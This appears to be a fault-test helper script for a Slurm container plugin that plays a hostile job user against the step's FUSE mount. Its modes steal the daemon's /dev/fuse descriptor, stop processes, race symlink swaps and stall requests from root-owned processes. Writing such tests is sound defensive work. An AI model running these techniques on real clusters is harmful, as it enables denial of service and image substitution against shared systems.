"""A job user's tools against a cold step's FUSE mount (tests/faults/fuse.bats), run as that user.

  fuse_attack.py hold SECONDS MARKER
      stop the user's squashfuse_ll (the step's daemon, which runs as them), take its
      /dev/fuse descriptor (pidfd_getfd), then read the mount's requests and answer none:
      a task that looks up a name it never saw waits in the kernel for an answer
  fuse_attack.py swap SECONDS MARKER USER_DIR IMAGE FIFO_LINK
      when the step's mount point appears in USER_DIR, rename FIFO_LINK (a symlink to a
      FIFO) over IMAGE (the symlink the step's image names); then take the daemon's
      /dev/fuse descriptor, answer FUSE_INIT and nothing after it
  fuse_attack.py stop SECONDS MARKER USER_DIR
      when the step's mount point appears in USER_DIR, SIGSTOP every process of the
      user's named slurmstepd ("stopped PID..."): the mounter, which runs as the user in
      its namespace, and the daemon before its exec (tests/faults/cancel.bats)
  fuse_attack.py replace SECONDS MARKER USER_DIR IMAGE OTHER_LINK
      when the step's mount point appears in USER_DIR, rename OTHER_LINK (a symlink to
      another valid image) over IMAGE: the daemon, which opens the image after that, must
      not serve the other image
  fuse_attack.py rootwalk SECONDS MARKER IMAGE NAME
      take the step's daemon's /dev/fuse descriptor while it waits for a request (stopped,
      so every request comes to us), and serve the connection with a squashfuse_ll of the
      user's own on IMAGE (through a socket: /dev/fd/N) for every process but one of
      real uid 0, whose requests are read and never answered ("root OPCODE PID"); the
      entry NAME under the mount's root (the first name of the job's working directory)
      is invalidated every few milliseconds, so that a walk through it asks the mount
  fuse_attack.py readhold SECONDS MARKER IMAGE
      take the step's daemon's descriptor as rootwalk does and serve the connection with a
      squashfuse_ll of the user's own on IMAGE, but hold every FUSE_READ of a process
      named bwrap or sh ("held read PID"): the mount is made, and the runtime's start
      (bwrap's exec of the container's sh) waits for a page the kernel's readahead asked for
  fuse_attack.py execread SECONDS MARKER IMAGE
      as readhold, but hold only the reads of processes named slurmstepd ("task OPCODE
      PID"): a task's execve of its command, before it is done, waits for its pages
  fuse_attack.py ownfs SECONDS MARKER MOUNTPOINT
      mount a FUSE filesystem of the user's own on MOUNTPOINT (fusermount3: /dev/fuse must
      be open to users, as most distributions ship it), answer FUSE_INIT and no other
      request: an image named in it holds whatever looks it up

MARKER gets one line per step of the attack (pid <own pid>, stolen <daemon pid>, holding <opcode>, ...). Every loop
ends after SECONDS; the descriptor then closes with the process.
"""
import ctypes
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_GETFD = 438
FUSE_INIT = 26
FUSE_INTERRUPT = 36
FUSE_NOTIFY_INVAL_ENTRY = 3
# FUSE_SPLICE_WRITE, FUSE_SPLICE_MOVE, FUSE_SPLICE_READ: not on a socket.
FUSE_SPLICE_FLAGS = (1 << 7) | (1 << 8) | (1 << 9)
IN_HEADER = struct.Struct("<IIQQIIIHH")  # len opcode unique nodeid uid gid pid total_extlen padding


def note(marker, text):
    with open(marker, "a") as f:
        f.write(text + "\n")


def daemons():
    """The squashfuse_ll processes of ours that run (not stopped)."""
    uid = os.getuid()
    found = []
    for pid in processes_named("squashfuse_ll"):
        if state(pid) not in ("R", "S", "D"):
            continue  # stopped by an earlier attack, or gone
        try:
            if os.stat(f"/proc/{pid}").st_uid == uid:
                found.append(int(pid))
        except OSError:
            continue
    return found


def my_daemon(deadline, exclude=()):
    """The newest squashfuse_ll of ours (not one of exclude), or None once the deadline passed."""
    while time.monotonic() < deadline:
        found = [pid for pid in daemons() if pid not in exclude]
        if found:
            return max(found)
        time.sleep(0.001)
    return None


def steal(pid, fd):
    pidfd = os.pidfd_open(pid)
    got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
    os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return got


def serve(fuse, deadline, marker, answer_init):
    """Read requests until the deadline; answer FUSE_INIT only when told to, nothing else."""
    holding = False
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fuse], [], [], 0.2)
        if not ready:
            continue
        try:
            request = os.read(fuse, 1 << 21)
        except OSError as error:
            note(marker, f"read: {error.strerror}")
            return
        _, opcode, unique, *_ = IN_HEADER.unpack_from(request)
        if opcode == FUSE_INIT and answer_init:
            # fuse_init_out: major minor max_readahead flags max_background congestion_threshold
            # max_write time_gran max_pages map_alignment flags2, then reserved words (64 bytes).
            body = struct.pack("<IIIIHHIIHHI", 7, 31, 1 << 17, 0, 16, 12, 1 << 17, 1, 32, 0, 0).ljust(64, b"\0")
            os.write(fuse, struct.pack("<IiQ", 16 + len(body), 0, unique) + body)
            note(marker, "init answered")
            continue
        if not holding:
            note(marker, f"holding {opcode}")
            holding = True


def hold(seconds, marker):
    deadline = time.monotonic() + seconds
    pid = my_daemon(deadline)
    if pid is None:
        note(marker, "no daemon")
        return 1
    os.kill(pid, signal.SIGSTOP)
    fuse = steal(pid, 3)
    note(marker, f"stolen {pid}")
    serve(fuse, deadline, marker, answer_init=False)
    return 0


def swap_on_mount_point(deadline, marker, user_dir, image, other_link):
    """Rename other_link over image the moment a mount point appears in user_dir."""
    while time.monotonic() < deadline:
        try:
            if any(n.startswith(".pyxis_cache_mnt.") for n in os.listdir(user_dir)):
                break
        except FileNotFoundError:
            pass  # the step prepares the user's directory first
        time.sleep(0.0005)
    else:
        note(marker, "no mount point")
        return False
    os.replace(other_link, image)
    note(marker, "swapped")
    return True


def stop(seconds, marker, user_dir):
    """When the step's mount point appears, stop every process of ours (real uid) named
    slurmstepd: the mounter, forked from slurmstepd, which became us in its namespace."""
    deadline = time.monotonic() + seconds
    uid = os.getuid()
    while time.monotonic() < deadline:
        try:
            if any(n.startswith(".pyxis_cache_mnt.") for n in os.listdir(user_dir)):
                break
        except FileNotFoundError:
            pass
        time.sleep(0.0005)
    else:
        note(marker, "no mount point")
        return 1
    stopped = []
    for pid in processes_named("slurmstepd"):
        if real_uid(pid) != uid:
            continue
        try:
            os.kill(int(pid), signal.SIGSTOP)
            stopped.append(pid)
        except OSError:
            continue
    note(marker, "stopped " + " ".join(stopped) if stopped else "nothing to stop")
    return 0 if stopped else 1


def replace(seconds, marker, user_dir, image, other_link):
    return 0 if swap_on_mount_point(time.monotonic() + seconds, marker, user_dir, image, other_link) else 1


def swap(seconds, marker, user_dir, image, fifo_link):
    deadline = time.monotonic() + seconds
    if not swap_on_mount_point(deadline, marker, user_dir, image, fifo_link):
        return 1
    pid = my_daemon(deadline)
    if pid is None:
        note(marker, "no daemon")
        return 1
    try:
        fuse = steal(pid, 3)
    except OSError as error:
        note(marker, f"steal: {error.strerror}")
        return 1
    note(marker, f"stolen {pid}")
    serve(fuse, deadline, marker, answer_init=True)
    return 0


def ownfs(seconds, marker, mountpoint):
    deadline = time.monotonic() + seconds
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    # fusermount3 mounts, then hands the /dev/fuse descriptor back over _FUSE_COMMFD (SCM_RIGHTS).
    env = dict(os.environ, _FUSE_COMMFD=str(theirs.fileno()))
    options = "rw,nosuid,nodev,fsname=pxc-attack,subtype=pxc-attack"
    mounted = subprocess.run(["fusermount3", "-o", options, "--", mountpoint], env=env, pass_fds=[theirs.fileno()])
    theirs.close()
    if mounted.returncode != 0:
        note(marker, f"fusermount3 failed: {mounted.returncode}")
        return 1
    _, fds, _, _ = socket.recv_fds(ours, 16, 1)
    if not fds:
        note(marker, "no descriptor from fusermount3")
        return 1
    note(marker, "mounted")
    serve(fds[0], deadline, marker, answer_init=True)
    return 0


def idle_in_read(pid):
    """The daemon (one thread) asleep in read(2) of its /dev/fuse with no request in hand."""
    if state(pid) != "S":
        return False
    try:
        with open(f"/proc/{pid}/wchan") as f:
            return "fuse_dev" in f.read()
    except OSError:
        return False


def state(pid):
    """pid's state letter (/proc/<pid>/stat, after the last ')' that ends its comm), or None when it is gone."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0]
    except OSError:
        return None


def io_counts(pid):
    try:
        with open(f"/proc/{pid}/io") as f:
            return [line for line in f if line.startswith(("rchar", "wchar"))]
    except OSError:
        return None


def real_uid(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("Uid:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def stop_now(pid):
    """SIGSTOP pid and return once it is stopped (the signal is delivered later than kill
    returns: until then it may still read a request), or after a second."""
    os.kill(pid, signal.SIGSTOP)
    until = time.monotonic() + 1
    while time.monotonic() < until:
        now = state(pid)
        if now is None or now in ("t", "T"):
            return
        time.sleep(0.0002)


def take_over(deadline, marker):
    """The /dev/fuse descriptor of the step's new daemon, stopped with no request in its hands, or None."""
    before = set(daemons())
    note(marker, "watching")
    pid = my_daemon(deadline, exclude=before)
    if pid is None:
        note(marker, "no daemon")
        return None
    # Stopped at first sight, while FUSE_INIT still waits in the kernel (the mount is made
    # before the daemon starts): every request comes to us, the first one too.
    early = None
    stop_now(pid)
    try:
        fuse = steal(pid, 3)
        if select.select([fuse], [], [], 0)[0]:
            early = fuse
        else:
            os.close(fuse)
    except OSError:
        pass
    if early is None:
        os.kill(pid, signal.SIGCONT)
    # Else stopped only while it waits for a request: then none is left half-served.
    while early is None:
        if time.monotonic() >= deadline:
            note(marker, "daemon never idle")
            return None
        before = io_counts(pid)
        if not idle_in_read(pid):
            time.sleep(0.0002)
            continue
        stop_now(pid)
        # Nothing read or written since it was seen waiting: no request in its hands.
        if io_counts(pid) == before:
            break
        os.kill(pid, signal.SIGCONT)
    fuse = early if early is not None else steal(pid, 3)
    note(marker, f"stolen {pid}" + (" before FUSE_INIT" if early is not None else ""))
    return fuse


def serve_with_own(fuse, deadline, marker, image, held, name=None):
    """Serve the connection with a squashfuse_ll of the user's own on image, but for the
    requests held(opcode, pid) names ((key, line): read, never answered; the line goes to
    the marker once per key); name, when given, is kept out of the kernel's cache under
    the mount's root."""
    # Our own squashfuse_ll serves the user's image on one end of a socket (libfuse takes
    # /dev/fd/N as a descriptor it reads requests from and writes answers to).
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    log = open(marker + ".server", "w")
    server = subprocess.Popen(["squashfuse_ll", "-f", image, f"/dev/fd/{theirs.fileno()}"],
                              pass_fds=[theirs.fileno()], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
    theirs.close()
    note(marker, f"server {server.pid}")
    proxy = Proxy(fuse, ours)
    if name is not None:
        # The kernel keeps the name cached for ever (squashfuse's timeouts): it is invalidated
        # again and again, from a thread of its own (the kernel takes the directory's lock for
        # it, which a lookup waiting for our answer may hold).
        threading.Thread(target=invalidate, args=(fuse, name, deadline), daemon=True).start()
    seen = set()
    while time.monotonic() < deadline:
        ready, _, _ = select.select([fuse, ours], [], [], 0.2)
        if fuse in ready:
            try:
                request = os.read(fuse, 1 << 21)
            except OSError as error:
                note(marker, f"read: {error.strerror}")
                break
            _, opcode, unique, _, _, _, rpid, *_ = IN_HEADER.unpack_from(request)
            hold = held(opcode, rpid) if opcode != FUSE_INIT else None
            if hold is not None:
                if hold[0] not in seen:
                    note(marker, hold[1])
                    seen.add(hold[0])
                continue
            proxy.from_kernel(request)
        if ours in ready and not proxy.from_server():
            note(marker, f"server gone after {proxy.last}")
            break
    server.kill()
    return 0


def serve_holding(seconds, marker, image, hold, name=None):
    """Takes the step's connection over and serves it with a daemon of the user's own, but for
    the requests hold(opcode, pid) picks (serve_with_own)."""
    deadline = time.monotonic() + seconds
    fuse = take_over(deadline, marker)
    if fuse is None:
        return 1
    return serve_with_own(fuse, deadline, marker, image, hold, name)


def rootwalk(seconds, marker, image, name):
    # Every request of a process of real uid 0 is held ("root OPCODE PID" once per process).
    return serve_holding(seconds, marker, image,
                         lambda opcode, rpid: (rpid, f"root {opcode} {rpid}") if real_uid(rpid) == 0 else None, name)


def readhold(seconds, marker, image):
    # Every read of a file's data by the runtime's start (bwrap, and the container's sh it
    # execs) is held: the kernel's readahead (FUSE_ASYNC_READ) asks for it, and the thread
    # that wants the page waits for the page's lock, not in a request.
    return serve_holding(seconds, marker, image,
                         lambda opcode, rpid: (0, f"held read {rpid}")
                         if opcode == Proxy.READ and comm(rpid) in ("bwrap", "sh") else None)


def comm(pid):
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return None


def processes_named(name):
    """The pids (as /proc names them) of the processes whose comm is name."""
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and comm(pid) == name]


def execread(seconds, marker, image):
    # The reads of a process named slurmstepd are held ("task OPCODE PID" once per process):
    # the task's execve of its command (as the user by then), before it is done, waits for
    # a page.
    return serve_holding(seconds, marker, image,
                         lambda opcode, rpid: (rpid, f"task {opcode} {rpid}")
                         if opcode == Proxy.READ and comm(rpid) == "slurmstepd" else None)


def invalidate(fuse, name, deadline):
    name = name.encode()
    body = struct.pack("<QII", 1, len(name), 0) + name + b"\0"
    notify = struct.pack("<IiQ", 16 + len(body), FUSE_NOTIFY_INVAL_ENTRY, 0) + body
    while time.monotonic() < deadline:
        try:
            os.write(fuse, notify)
        except OSError:
            pass  # not in the kernel's cache (yet)
        time.sleep(0.002)


class Proxy:
    """Requests from the kernel to our squashfuse_ll and its answers back, for a connection
    another daemon served before: FUSE_INIT made up when the kernel's was answered already,
    and file handles that daemon gave (unknown to ours) opened again on ours."""

    OPEN, OPENDIR, RELEASE, RELEASEDIR, READ, READDIR, FLUSH, READDIRPLUS = 14, 27, 18, 29, 15, 28, 25, 44
    OWN = 1 << 60
    CHUNK = 1 << 17

    def __init__(self, fuse, server):
        self.fuse, self.server = fuse, server
        self.inited = False
        self.handles = {}  # the other daemon's fh -> ours
        self.known = set()  # ours
        self.opening = {}  # unique of an open we forwarded -> True
        self.own = 0
        self.last = []

    def ask(self, opcode, nodeid, body):
        """A request of our own to the server; its answer, other answers forwarded meanwhile."""
        self.own += 1
        unique = self.OWN + self.own
        self.server.send(IN_HEADER.pack(IN_HEADER.size + len(body), opcode, unique, nodeid, 0, 0, 0, 0, 0) + body)
        while True:
            answer = self.server.recv(1 << 21)
            if not answer:
                return None
            if struct.unpack_from("<Q", answer, 8)[0] == unique:
                return answer
            self.to_kernel(answer)

    def to_kernel(self, answer):
        unique = struct.unpack_from("<Q", answer, 8)[0]
        if self.opening.pop(unique, False) and struct.unpack_from("<i", answer, 4)[0] == 0:
            self.known.add(struct.unpack_from("<Q", answer, 16)[0])
        try:
            os.write(self.fuse, answer)
        except OSError:
            pass  # interrupted meanwhile

    def from_kernel(self, request):
        request = bytearray(request)
        _, opcode, unique, nodeid, *_ = IN_HEADER.unpack_from(request)
        self.last = (self.last + [opcode])[-8:]
        if opcode == FUSE_INIT:
            # Not with splice: ours reads a socket.
            flags = struct.unpack_from("<I", request, IN_HEADER.size + 12)[0]
            struct.pack_into("<I", request, IN_HEADER.size + 12, flags & ~FUSE_SPLICE_FLAGS)
            self.inited = True
            self.server.send(bytes(request))
            return
        if not self.inited:
            self.inited = True
            self.ask(FUSE_INIT, 0, struct.pack("<IIII", 7, 31, 1 << 17, (1 << 0) | (1 << 5)).ljust(64, b"\0"))
        if opcode == FUSE_INTERRUPT:
            return
        if opcode in (self.OPEN, self.OPENDIR):
            self.opening[unique] = True
        if opcode in (self.READ, self.READDIR, self.READDIRPLUS, self.FLUSH, self.RELEASE, self.RELEASEDIR):
            fh = struct.unpack_from("<Q", request, IN_HEADER.size)[0]
            if fh not in self.known:
                if opcode in (self.RELEASE, self.RELEASEDIR, self.FLUSH):
                    os.write(self.fuse, struct.pack("<IiQ", 16, 0, unique))
                    return
                if fh not in self.handles:
                    answer = self.ask(self.OPENDIR if opcode != self.READ else self.OPEN, nodeid, struct.pack("<II", 0, 0))
                    if answer is None or struct.unpack_from("<i", answer, 4)[0] != 0:
                        os.write(self.fuse, struct.pack("<IiQ", 16, -5, unique))
                        return
                    self.handles[fh] = struct.unpack_from("<Q", answer, 16)[0]
                struct.pack_into("<Q", request, IN_HEADER.size, self.handles[fh])
        if opcode == self.READ and struct.unpack_from("<I", request, IN_HEADER.size + 16)[0] > self.CHUNK:
            self.read_in_chunks(request, unique, nodeid)
            return
        self.server.send(bytes(request))

    def read_in_chunks(self, request, unique, nodeid):
        """A READ larger than our socket carries in one answer (a message of SOCK_SEQPACKET is at
        most the send buffer: the mount reads ahead a MiB) asked of our server a CHUNK at a time,
        and answered to the kernel in one piece."""
        body = bytearray(request[IN_HEADER.size:])
        offset, size = struct.unpack_from("<QI", body, 8)
        data = b""
        while len(data) < size:
            want = min(self.CHUNK, size - len(data))
            struct.pack_into("<QI", body, 8, offset + len(data), want)
            answer = self.ask(self.READ, nodeid, bytes(body))
            error = -5 if answer is None else struct.unpack_from("<i", answer, 4)[0]
            if error != 0:
                os.write(self.fuse, struct.pack("<IiQ", 16, error, unique))
                return
            data += answer[16:]
            if len(answer) - 16 < want:
                break
        self.to_kernel(struct.pack("<IiQ", 16 + len(data), 0, unique) + data)

    def from_server(self):
        answer = self.server.recv(1 << 21)
        if not answer:
            return False
        self.to_kernel(answer)
        return True


def main():
    mode, seconds, marker = sys.argv[1], float(sys.argv[2]), sys.argv[3]
    note(marker, f"pid {os.getpid()}")
    if mode == "hold":
        return hold(seconds, marker)
    if mode == "swap":
        return swap(seconds, marker, *sys.argv[4:7])
    if mode == "stop":
        return stop(seconds, marker, sys.argv[4])
    if mode == "replace":
        return replace(seconds, marker, *sys.argv[4:7])
    if mode == "rootwalk":
        return rootwalk(seconds, marker, *sys.argv[4:6])
    if mode == "readhold":
        return readhold(seconds, marker, sys.argv[4])
    if mode == "execread":
        return execread(seconds, marker, sys.argv[4])
    if mode == "ownfs":
        return ownfs(seconds, marker, sys.argv[4])
    print(f"unknown mode {mode}", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
